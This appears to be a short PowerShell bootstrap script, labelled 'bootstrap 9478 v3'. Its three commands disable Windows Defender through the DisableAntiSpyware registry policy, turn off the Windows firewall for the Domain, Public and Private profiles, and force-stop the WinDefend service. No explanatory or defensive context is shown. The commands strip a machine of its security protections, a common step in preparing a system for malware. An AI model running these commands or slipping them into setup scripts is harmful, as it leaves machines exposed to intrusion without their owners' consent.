# bootstrap 9478 v3
New-ItemProperty -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' -Name DisableAntiSpyware -Value 1 -PropertyType DWORD -Force
Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False
Stop-Service -Name WinDefend -Force
